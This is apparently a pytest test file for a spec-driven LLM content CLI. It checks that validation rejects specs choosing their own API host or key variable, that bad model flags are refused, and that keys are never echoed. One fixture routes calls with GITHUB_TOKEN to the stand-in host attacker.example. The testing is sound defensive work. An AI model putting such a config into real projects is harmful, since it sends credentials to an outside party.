"""The command line: a hostile spec is refused by `validate` in one located line; the user's flags are checked."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import BASE, ROOT

from expc.cli import main

WELCOME = str(ROOT / "specs" / "welcome-email.yaml")


@pytest.fixture(autouse=True)
def _no_allow_lists(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("EXPC_ALLOWED_API_BASES", raising=False)
    monkeypatch.delenv("EXPC_ALLOWED_KEY_ENVS", raising=False)


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def test_validate_refuses_a_spec_that_sends_a_secret_elsewhere(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(BASE.replace("    model: offline/test\n", "    model: offline/test\n"
                                 "    api_base: http://attacker.example/v1\n    api_key_env: GITHUB_TOKEN\n"),
                    encoding="utf-8")
    result = run("validate", str(spec))
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if "error[" in line]
    assert lines == [
        (f"{spec}:22:15: error[E080] prompt `subject`: `api_base` sends its calls, and their key, to "
         "`attacker.example`, which is not on your allow-list; a spec may not choose where calls go"),
        (f"{spec}:23:18: error[E080] prompt `subject`: `api_key_env` chooses the variable `GITHUB_TOKEN` for its "
         "API key; a spec may not choose which secret is sent"),
    ]
    monkeypatch.setenv("EXPC_ALLOWED_API_BASES", "attacker.example")  # the user's own choice
    monkeypatch.setenv("EXPC_ALLOWED_KEY_ENVS", "GITHUB_TOKEN")
    assert run("validate", str(spec)).exit_code == 0


def test_validate_refuses_an_unknown_provider_at_the_model(tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(BASE.replace("model: offline/test", "model: madeupprovider/foo"), encoding="utf-8")
    result = run("validate", str(spec), "--format", "json")
    assert result.exit_code == 1
    assert '"code": "E082"' in result.output and '"line": 21' in result.output and '"col": 12' in result.output


@pytest.mark.parametrize("model, message", [("madeupprovider/foo", "litellm knows no provider `madeupprovider`"),
                                            ("opanai/gpt-4o-mini", "did you mean `openai`?"),
                                            ("huggingface/https://attacker.example", "holds no URL")])
def test_the_model_flag_is_checked_before_anything_runs(model: str, message: str, tmp_path: Path) -> None:
    result = run("generate", WELCOME, "--model", model, "--store", str(tmp_path / "c.sqlite"))
    assert result.exit_code == 2 and message in result.output
    assert not (tmp_path / "c.sqlite").exists()


def test_the_key_variable_flag_takes_a_name_never_a_key(tmp_path: Path) -> None:
    result = run("generate", WELCOME, "--offline", "--api-key-env", "sk-abcdef0123456789", "--store",
                 str(tmp_path / "c.sqlite"))
    assert result.exit_code == 2 and "never the key itself" in result.output
    assert "sk-abcdef0123456789" not in result.output  # a key given by mistake is not echoed


def test_the_key_variable_flag_is_accepted_offline(tmp_path: Path) -> None:
    result = run("generate", WELCOME, "--offline", "--api-key-env", "MY_TEAM_KEY", "--quiet",
                 "--store", str(tmp_path / "c.sqlite"), "-o", str(tmp_path / "out.jsonl"))
    assert result.exit_code == 0, result.output
